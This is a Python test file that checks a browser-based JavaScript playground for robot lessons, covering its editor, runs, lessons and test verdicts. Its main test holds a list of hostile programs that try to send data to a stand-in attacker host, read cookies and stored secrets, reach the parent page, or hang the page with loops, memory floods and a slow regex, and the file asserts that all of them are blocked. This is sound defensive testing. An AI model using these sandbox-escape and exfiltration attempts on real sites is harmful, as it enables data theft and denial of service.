#!/usr/bin/env python3
"""Tests JavaScript programs in the playground, in a headless Chromium. usage: edu_test.py ORB FOLDER [TEST...]

FOLDER is what `./dev playground` built."""

import json
import os
import sys
import unittest

from page_test import by_id, chromium, click, events, findings, folder, fragment, idle, note_violations, outcome, played, ready, site_server, stop, text, wait, weight

# Programs that want to get out: what each is, its text, and what the page says of it where it has to end it. EVIL is an
# address of somebody else, OWN that of the page. What a program prints of what it has got is nothing but `no`.
tell = "const tell = async deed => { let got; try { got = await deed(); } catch { got = undefined; } print(got === undefined || got === null ? 'no' : 'GOT ' + got); };\n"
program = lambda body: f"{tell}async function startProgram() {{\n{body}\n}}\n"
hostile = {
    "fetch": program("await tell(() => fetch('EVILfetch').then(answer => answer.status));\nawait tell(() => fetch('OWNstolen').then(answer => answer.status));"),
    "XMLHttpRequest": program("await tell(() => { const request = new XMLHttpRequest(); request.open('GET', 'EVILxhr', false); request.send(); return request.status; });"),
    "WebSocket": program("await tell(() => new Promise((done, failed) => { const socket = new WebSocket('EVILsocket'.replace('http', 'ws')); socket.onopen = done; socket.onerror = failed; }));"),
    "beacon": program("await tell(() => navigator.sendBeacon('EVILbeacon', 'x') || undefined);\nawait tell(() => new EventSource('EVILsource').url);"),
    "import": program("await tell(() => import('EVILimport.js'));\nawait tell(() => import('data:text/javascript,export default 1'));\nawait tell(() => import('OWNstolen.js'));\nawait tell(() => importScripts('EVILscript.js'));"),
    "worker": program("await tell(() => new Worker('data:text/javascript,postMessage(1)'));\nawait tell(() => new Worker(URL.createObjectURL(new Blob(['fetch(\"EVILworker\")']))));\nawait tell(() => new SharedWorker('EVILshared.js'));"),
    "parent": program("await tell(() => parent.document.title);\nawait tell(() => top.location.href);\nawait tell(() => opener.document);\nawait tell(() => frames[0]);\nawait tell(() => document.cookie);\nawait tell(() => window.name);"),
    "storage": program("await tell(() => localStorage.getItem('secret'));\nawait tell(() => sessionStorage.length);\nawait tell(() => new Promise((done, failed) => { const open = indexedDB.open('orb-playground'); open.onsuccess = () => done(open.result.name); open.onerror = failed; }));\nawait tell(() => caches.keys());\nawait tell(() => navigator.storage.getDirectory());"),
    "window.open": program("await tell(() => open('EVILwindow'));\nawait tell(() => self.open('EVILwindow'));\nawait tell(() => alert('hello') ?? null);"),
    "location": program("await tell(() => { location.href = 'EVILlocation'; });\nawait tell(() => location.replace('EVILlocation'));\nawait tell(() => history.pushState({}, '', '/stolen'));"),
    "RTCPeerConnection": program("await tell(() => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }));\nawait tell(() => new WebTransport('EVILtransport'.replace('http:', 'https:')).ready);"),
    "font": program("await tell(() => new FontFace('x', 'url(EVILfont)').load().then(() => 1));\nawait tell(() => { document.body.style.background = 'url(EVILstyle)'; });\nawait tell(() => { new Image().src = 'EVILimage'; });\nawait tell(() => fonts.load('1px x').then(all => all.length || undefined));"),
    "eval": program("await tell(() => eval('self.constructor'));\nawait tell(() => new Function('return self')());\nawait tell(() => (async () => {}).constructor('return 1')());\nawait tell(() => setTimeout('print(\"GOT\")', 1) && undefined);\nawait tell(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));"),
    "forged messages": program("await tell(() => postMessage('{}'));\nawait tell(() => self.postMessage({ kind: 'said', text: 'x' }));\nawait tell(() => Object.getPrototypeOf(self).postMessage);\n"
        "for (let i = 0; i < 3; ++i) { dispatchEvent(new MessageEvent('message', { data: JSON.stringify({ now: 1e9, state: {}, events: [['onCollision', 1]] }) })); dispatchEvent(new MessageEvent('message', { data: '{' })); }\n"
        "await tell(() => onmessage);\nawait tell(() => new BroadcastChannel('orb').name);"),
    "polluted prototypes": program("for (const key of ['now', 'events', 'wake', 'did', 'ended', 'error', 'kind', 'text', 'robot', '__proto__']) try { Object.prototype[key] = 'bad'; } catch {}\n"
        "Array.prototype.push = () => 1e9; JSON.stringify = () => '{\"did\":[[\"roll\"]],\"ended\":\"done\",\"wake\":\"x\"}'; JSON.parse = () => ({}); Promise.prototype.then = undefined; Math.min = () => NaN; Array.isArray = () => true; Map.prototype.get = () => null;\n"
        "await delay(1);"),
    "a huge message": program("const much = 'x'.repeat(2 ** 26);\nfor (let i = 0; i < 50; ++i) print(much);\nsetMainLed({ r: much, g: [much, much], b: { much } });\nawait speak(much);\nregisterMatrixAnimation({ frames: Array(1e5).fill(Array(1e3).fill([1])), palette: Array(1e5).fill({ r: 1 }), fps: 1e9, transition: 1 });"),
    "a flood of the console": program("for (let i = 0; ; ++i) { console.log(i, 'x'.repeat(1000)); console.error(i); }"),
    "a flood of commands": program("for (;;) setMainLed({ r: 1, g: 2, b: 3 });"),
    "a loop": program("let i = 0; while (true) i++;"),
    "a recursion": program("const deeper = n => deeper(n + 1) + 1;\nprint(deeper(0));"),
    "a huge allocation": program("const all = []; for (;;) all.push(new Uint8Array(2 ** 28).fill(1));"),
    "a huge text": program("let all = 'x'; for (;;) all += all + 'y';"),
    "a promise that never settles": program("print('before');\nawait new Promise(() => {});"),
    "endless microtasks": program("const again = () => Promise.resolve().then(again);\nawait again();"),
    "a slow pattern": program("print(/^(a+)+$/.test('a'.repeat(60) + '!'));"),
    "hidden loops": "const object = { get startProgram() { for (;;); }, toString() { for (;;); } };\nfunction startProgram() { print(object); `${object}`; Array(2 ** 31).fill(0); [].sort.call({ length: 2 ** 53 }); }\n",
}
verdicts = "[...document.querySelectorAll('#verdict-list > li')].map(one => one.dataset.verdict)"
root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../..")
alive = "async function startProgram() {\n  print('alive');\n}\n"
secret = "try { localStorage.setItem('secret', 'kept'); } catch {}"


class Edu(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.server, cls.evil = site_server.Site(folder), site_server.Site(folder)
        cls.browser = chromium.Browser(chromium.find())

    @classmethod
    def tearDownClass(cls):
        cls.browser.close()
        cls.server.close()
        cls.evil.close()

    def open(self, source="", where=None, width=1280, height=860, mobile=False, before="", complains=False, **more):
        page = self.browser.page(fresh=True)
        self.addCleanup(page.close)
        page.resize(width, height, mobile)
        page.call("Page.addScriptToEvaluateOnNewDocument", source=note_violations + before)
        page.go(self.server.url + (where if where is not None else fragment({"a.js": source}, **more)))
        page.wait(ready, 40)
        page.wait("document.querySelector('#robot-kind') !== null", 20)
        if not complains:
            self.addCleanup(lambda: self.assertEqual(page.complaints, []))
        self.addCleanup(lambda: self.assertIsNone(page.evaluate("window.violations")))
        return page

    def type(self, page, words):
        page.evaluate("document.querySelector('.cm-content').focus()")
        page.key("a", modifiers=2)
        page.call("Input.insertText", text=words)

    def instant(self, page, seconds=30):
        page.evaluate(click("instant"))
        page.wait(idle, seconds)

    # -- programs of strangers --
    def test_hostile_programs_reach_nothing(self):
        self.assertGreaterEqual(len(hostile), 20)
        page = self.open(alive, before=secret)
        shown = "JSON.stringify([document.title, location.href, document.body.children.length, history.length])"
        self.instant(page)
        before, pages = page.evaluate(shown), self.pages()
        for name, source in hostile.items():
            with self.subTest(name):
                page.evaluate(f"location.hash = {json.dumps(fragment({'a.js': source.replace('EVIL', self.evil.url).replace('OWN', self.server.url)}))}")
                page.wait("location.hash === ''")
                page.evaluate(wait(50))
                page.evaluate(click("instant"))
                page.wait(idle, 60)
                printed, said = page.evaluate(events), page.evaluate(outcome)
                print(f"{name}: {said[:90]!r} {sorted(set(printed))[:4]}")
                self.assertFalse([line for line in printed if "GOT" in line], name)
                self.assertNotEqual(said, "")
                self.assertEqual(self.pages(), pages)
                self.assertEqual(page.evaluate("localStorage.getItem('secret')"), "kept")
                self.assertEqual(page.evaluate("document.querySelectorAll('iframe').length"), 0)
                self.assertEqual(json.loads(page.evaluate(shown))[:3], json.loads(before)[:3])
        page.evaluate(f"location.hash = {json.dumps(fragment({'a.js': alive}))}")
        page.wait("location.hash === ''")
        page.evaluate(wait(50))
        self.instant(page)
        self.assertIn("alive", page.evaluate(events))
        self.assertEqual(self.evil.asked, set())
        self.assertEqual([path for path in self.server.asked if "stolen" in path], [])

    def pages(self):
        """The pages that there are: a program can open none."""
        return sum(one["type"] == "page" for one in self.browser.call("Target.getTargets", {})["targetInfos"])


    def test_what_would_get_out_of_the_worker_is_still_nowhere(self):
        """The frame around the worker: what stands in it is nobody's, too."""
        page = self.open(program("await new Promise(() => {});"))
        page.evaluate(click("run"))
        page.wait("document.querySelector('iframe') !== null")
        page.evaluate(wait(500))
        frames = [one for one in self.browser.call("Target.getTargets", {})["targetInfos"] if one["type"] == "iframe"]
        self.assertEqual(len(frames), 1)
        session = self.browser.call("Target.attachToTarget", {"targetId": frames[0]["targetId"], "flatten": True})["sessionId"]

        def inside(expression):
            told = self.browser.call("Runtime.evaluate", {"expression": f"(async () => {{ try {{ return String(await ({expression})) }} catch (error) {{ return 'refused: ' + error.name }} }})()",
                                     "awaitPromise": True, "returnByValue": True}, session)
            return told["result"].get("value")

        self.assertEqual(inside("self.origin"), "null")
        for expression in (f"fetch('{self.evil.url}frame')", f"fetch('{self.server.url}stolen')", "parent.document", "top.location.href", "localStorage", "caches.keys()",
                           f"import('{self.evil.url}frame.js')", f"new Promise((done, failed) => {{ const image = new Image(); image.onload = done; image.onerror = () => failed(new Error('image')); image.src = '{self.evil.url}image'; }})",
                           f"(top.location = '{self.evil.url}top')", f"new Promise((done, failed) => {{ const socket = new WebSocket('ws://127.0.0.1:9'); socket.onopen = done; socket.onerror = () => failed(new Error('socket')); }})"):
            self.assertTrue((inside(expression) or "").startswith("refused"), expression)
        self.assertEqual(inside(f"open('{self.evil.url}window')"), "null")
        inside(f"document.head.append(Object.assign(document.createElement('style'), {{ textContent: 'body {{ background: url({self.evil.url}style) }}' }}))")
        inside(f"document.body.append(Object.assign(document.createElement('iframe'), {{ src: '{self.evil.url}inner' }}))")
        page.evaluate(stop)
        page.wait(idle)
        self.assertEqual(self.evil.asked, set())
        self.assertEqual([path for path in self.server.asked if "stolen" in path], [])

    # -- writing --
    def test_a_mistake_is_underlined_and_fixed(self):
        page = self.open("async function startProgram() {\n  await rol(0, 100, 1);\n}\n")
        page.wait(f"({findings}).includes('unknown-function')")
        page.wait("document.querySelector('.cm-lintRange-error')?.textContent === 'rol'")
        page.evaluate("document.querySelector('#findings .fix').click()")
        page.wait(f"({text}).includes('await roll(0, 100, 1);')")
        page.wait("document.querySelectorAll('#findings .error').length === 0")

    def test_a_text_that_does_not_parse_is_not_run(self):
        page = self.open("async function startProgram() {\n  print('hello';\n}\n")
        page.wait(f"({findings}).includes('syntax')")
        page.evaluate(click("run"))
        page.wait(f"{by_id('outcome')}.classList.contains('bad')")
        self.assertTrue(page.evaluate(idle))
        self.assertIn("errors", page.evaluate(outcome))

    def test_words_are_coloured_completed_and_explained(self):
        page = self.open("async function startProgram() {\n  await roll(0, 0, 1);\n  setMain\n}\n")
        page.wait("[...document.querySelectorAll('.tok-robots')].some(one => one.textContent === 'roll')")
        page.wait("document.querySelector('.tok-keyword') !== null && document.querySelector('.tok-number') !== null")
        page.evaluate("document.querySelector('.cm-content').focus()")
        for key in ("Home",):
            page.key(key, modifiers=2)
        for _ in range(2):
            page.call("Input.dispatchKeyEvent", type="rawKeyDown", key="ArrowDown", code="ArrowDown", windowsVirtualKeyCode=40)
        page.call("Input.dispatchKeyEvent", type="rawKeyDown", key="End", code="End", windowsVirtualKeyCode=35)
        page.key("L")
        page.wait("[...document.querySelectorAll('.cm-tooltip-autocomplete li')].some(item => item.textContent.includes('setMainLed'))")
        page.key("Escape")
        box = page.evaluate("(({x, y, width, height}) => [x + width / 2, y + height / 2])([...document.querySelectorAll('.tok-robots')].find(one => one.textContent === 'roll').getBoundingClientRect())")
        page.call("Input.dispatchMouseEvent", type="mouseMoved", x=box[0], y=box[1])
        page.wait("document.querySelector('.cm-tooltip-hover')?.textContent.includes('heading')")

    def test_a_new_line_is_moved_in(self):
        page = self.open(alive)
        page.evaluate("document.querySelector('.cm-content').focus()")
        page.key("a", modifiers=2)
        page.call("Input.insertText", text="if (true) {")
        page.call("Input.dispatchKeyEvent", type="rawKeyDown", key="Enter", code="Enter", windowsVirtualKeyCode=13)
        page.call("Input.insertText", text="x")
        page.wait(f"({text}).includes('if (true) {{\\n  x')")

    # -- running --
    def test_a_live_run_prints_and_is_stopped(self):
        page = self.open("async function startProgram() {\n  for (let i = 0; ; i++) {\n    print('round ' + i);\n    await roll(i * 90, 60, 0.4);\n  }\n}\n")
        page.evaluate(click("run"))
        page.wait(f"{events}.includes('round 2')", 30)
        self.assertIn("round", page.evaluate("document.querySelector('.bubble').textContent"))
        self.assertFalse(page.evaluate(idle))
        page.evaluate(stop)
        page.wait(idle, 10)
        self.assertIn("stopped after", page.evaluate(outcome))
        self.assertGreater(page.evaluate("document.querySelectorAll('#map .run').length"), 0)
        self.assertEqual(page.evaluate("document.querySelectorAll('iframe').length"), 0)

    def test_an_endless_loop_leaves_the_page_alive(self):
        page = self.open("async function startProgram() {\n  const again = () => Promise.resolve().then(again);\n  await again();\n}\n")
        page.evaluate(click("run"))
        page.evaluate(wait(300))
        for _ in range(5):
            took = page.evaluate("new Promise(done => { const begin = performance.now(); setTimeout(() => done(performance.now() - begin), 10); })")
            self.assertLess(took, 400)
        page.wait(f"{idle} && {outcome}.includes('did not let any time pass')", 40)

    def test_an_error_names_its_line(self):
        page = self.open("async function startProgram() {\n  await delay(0.1);\n  const nothing = null;\n  nothing.more();\n}\n")
        self.instant(page)
        self.assertIn("line 4", page.evaluate(outcome))
        self.assertIn("TypeError", page.evaluate(outcome))

    def test_somebody_pushes_it_while_it_runs(self):
        page = self.open("async function startProgram() {\n  registerEvent(EventType.onCollision, async () => { print('ouch'); });\n  print('ready');\n  await delay(60);\n}\n")
        page.evaluate(click("run"))
        page.wait(f"{events}.includes('ready')", 20)
        page.evaluate(wait(500))
        page.evaluate("document.querySelector('[data-line=bump]').click()")
        page.wait(f"{events}.includes('ouch')", 20)
        page.evaluate(stop)
        page.wait(idle, 10)

    # -- which robot --
    def test_the_robot_is_chosen_and_shared(self):
        page = self.open("async function startProgram() {\n  clearMatrix();\n  await roll(0, 50, 1);\n}\n", run={"robot": "bolt"})
        self.assertEqual(page.evaluate("[...document.querySelectorAll('#robot-kind option')].map(one => one.value)"), ["bolt", "bolt+", "mini", "rvr", "sprk+", "ollie", "r2d2", "bb9e"])
        page.wait(f"({findings}).length === 0 && {by_id('count')}.textContent === 'no mistakes found'")
        page.evaluate(f"{by_id('robot-kind')}.value = 'mini'; {by_id('robot-kind')}.dispatchEvent(new Event('change'))")
        page.wait(f"({findings}).includes('robot-lacks')")
        page.evaluate(click("share"))
        page.wait(f"{by_id('share-dialog')}.open")
        link = page.evaluate(f"{by_id('share-link')}.value")
        other = self.open(where=link.removeprefix(self.server.url))
        other.wait(f"{by_id('robot-kind')}.value === 'mini' && ({findings}).includes('robot-lacks')")

    def test_it_is_there_for_javascript_alone(self):
        page = self.open(alive)
        page.evaluate(f"location.hash = {json.dumps(fragment({'a.orb': 'print 1'}))}")
        page.wait(f"{by_id('robot-kind')}.hidden")

    # -- lessons --
    def test_three_lessons_have_a_twin(self):
        for number in ("01-traffic-light", "02-one-metre", "03-square"):
            page = self.open(where=f"#lesson=lessons/{number}/edu", before="try { localStorage.setItem('orb-language', 'de'); } catch {}")
            page.wait(f"!{by_id('task')}.hidden && {by_id('task-title')}.textContent.includes('JavaScript')")
            page.wait(f"{by_id('task-job')}.textContent.includes('Deine Aufgabe')")
            self.assertIn("startProgram", page.evaluate(text))
            self.assertFalse(page.evaluate(f"{by_id('test')}.hidden"))
            self.judge(page)
            self.assertIn("failed", page.evaluate(verdicts))
            with open(os.path.join(root, "examples/lessons", number, "edu/solution.js"), encoding="utf-8") as solution:
                self.type(page, solution.read())
            self.judge(page)
            self.assertEqual(set(page.evaluate(verdicts)), {"passed"})
            self.assertFalse(page.evaluate(f"{by_id('cheer')}.hidden"))

    # -- tests --
    def judge(self, page, seconds=60):
        page.evaluate(f"{by_id('verdicts')}.hidden = true")
        page.evaluate(click("test"))
        page.wait(f"{idle} && !{by_id('verdicts')}.hidden", seconds)
        self.assertEqual(page.evaluate("document.querySelectorAll('iframe').length"), 0)

    def test_a_failure_is_shown_and_watched(self):
        page = self.open(where=fragment({"a.js": "async function startProgram() {\n  print('hello');\n  await roll(90, 100, 1);\n}\n",
                                         "a.test": 'test "goes ahead"\n  expect near 0,90 by 15cm\ntest "greets" seeds 1..3\n  expect print "hello"\n  expect moving within 1s\n'}))
        self.judge(page)
        self.assertEqual(page.evaluate(verdicts), ["failed", "passed"])
        self.assertEqual(page.evaluate("document.querySelector('#verdict-list .miss').textContent.replace(/[\\d.]+ cm from/, 'N cm from').replace(/at [\\d.]+ s/, 'at T s')"),
                         "Wanted the ball within 15 cm of 0,90; nearest was N cm from 0,90 at T s.")
        self.assertGreater(page.evaluate("document.querySelectorAll('#map .ghosts *').length"), 0)
        page.evaluate("document.querySelectorAll('#verdict-list button')[2].click()")
        page.wait(f"{outcome}.includes('the run of “greets”')")
        self.assertIn("hello", page.evaluate(events))

    def test_the_world_of_a_test_and_its_robot(self):
        page = self.open(where=fragment({"a.js": "async function startProgram() {\n  print(getConnectedRobotType());\n  await roll(0, 100, 2);\n}\n",
                                         "a.test": 'wall y=40\nexpect collision\nnever beyond y>40\nexpect print "mini"\n'}, run={"robot": "mini"}))
        self.judge(page)
        self.assertEqual(page.evaluate(verdicts), ["passed"])

    def test_a_program_that_breaks_fails_its_tests(self):
        for body, seen in (("nothing.more();", "a.js:2: the program stopped: ReferenceError"), ("for (;;);", "a.js:2: no time passes in this loop"), ("await new Promise(() => { const again = () => Promise.resolve().then(again); again(); });", "did not let any time pass")):
            page = self.open(where=fragment({"a.js": f"async function startProgram() {{\n  {body}\n}}\n", "a.test": "never moving\n"}))
            self.judge(page)
            self.assertEqual(page.evaluate(verdicts), ["failed"])
            self.assertIn(seen, page.evaluate("document.querySelector('#verdict-list').textContent"))
        page = self.open(where=fragment({"a.js": "async function startProgram() {\n  await roll(0, 100 2);\n}\n", "a.test": "never moving\n"}))
        page.evaluate(click("test"))
        page.wait(f"{idle} && {outcome}.includes('It has errors')")
        self.assertTrue(page.evaluate(f"{by_id('verdicts')}.hidden"))

    def test_a_test_is_stopped(self):
        page = self.open(where=fragment({"a.js": "async function startProgram() {\n  const again = () => Promise.resolve().then(again);\n  await again();\n}\n", "a.test": "never moving\n", "b.orb": "print 1\n"}))
        page.evaluate(click("test"))
        page.wait("document.querySelector('iframe') !== null")
        page.evaluate(stop)
        page.wait(idle, 5)
        self.assertEqual(page.evaluate(outcome), "stopped")
        self.assertEqual(page.evaluate("document.querySelectorAll('iframe').length"), 0)
        self.type(page, alive)
        self.judge(page)
        self.assertEqual(page.evaluate(verdicts), ["passed"])

    def test_a_teacher_sees_how_the_program_does(self):
        page = self.open(where=fragment({"a.js": alive, "a.test": 'expect print "alive"\n'}))
        page.evaluate(click("lesson-write"))
        page.wait(f"{by_id('lesson-verdict')}?.textContent.includes('already passes')", 20)

    # -- what it weighs --
    def test_all_of_it_comes_on_demand(self):
        later = weight.weights(folder, "on_demand")
        own = {name: size for name, size in later.items() if name.startswith(("edu-", "machine-"))}
        print(f"JavaScript programs load {sum(own.values())} bytes, when one is opened")
        self.assertEqual(len(own), 2)
        self.assertLessEqual(sum(own.values()), 120_000)


if __name__ == "__main__":
    if not chromium.find() or not os.path.exists(os.path.join(folder, "orb.wasm")):
        print("no Chromium, or no playground is built")
        sys.exit(77)
    unittest.main(argv=sys.argv[:1] + sys.argv[3:])
